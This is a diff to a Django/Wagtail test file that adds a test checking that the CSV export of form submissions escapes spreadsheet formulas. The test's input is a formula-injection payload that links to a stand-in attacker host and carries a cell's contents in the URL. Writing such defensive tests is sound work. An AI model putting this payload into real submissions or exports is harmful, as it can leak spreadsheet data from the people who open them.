@@ -1,5 +1,8 @@
 """The questions form page: built in the admin, stored, emailed, guarded."""
 
+import csv
+import io
+
 import pytest
 from django.core import mail
 from django.core.cache import cache
@@ -317,6 +320,19 @@ def test_submissions_are_exported_from_the_admin(admin_client, submit, questions
     content = b"".join(response.streaming_content).decode()
     assert "Is there a workshop in Valencia this spring?" in content
     assert HONEYPOT_FIELD not in content
+
+
+def test_the_submissions_csv_neutralises_formulas(admin_client, submit, questions_page):
+    """An answer a spreadsheet would run (``=HYPERLINK(...)``) arrives as text."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    submit({**VALID, "name": formula, "message": "@SUM(1+1)"})
+    url = reverse("wagtailforms:list_submissions", args=[questions_page.pk])
+    response = admin_client.get(url, {"export": "csv"})
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(content)))
+    cells = {cell for row in rows[1:] for cell in row}
+    assert "'" + formula in cells and "'@SUM(1+1)" in cells
+    assert formula not in cells
 
 
 def test_form_page_is_translated_with_its_fields(
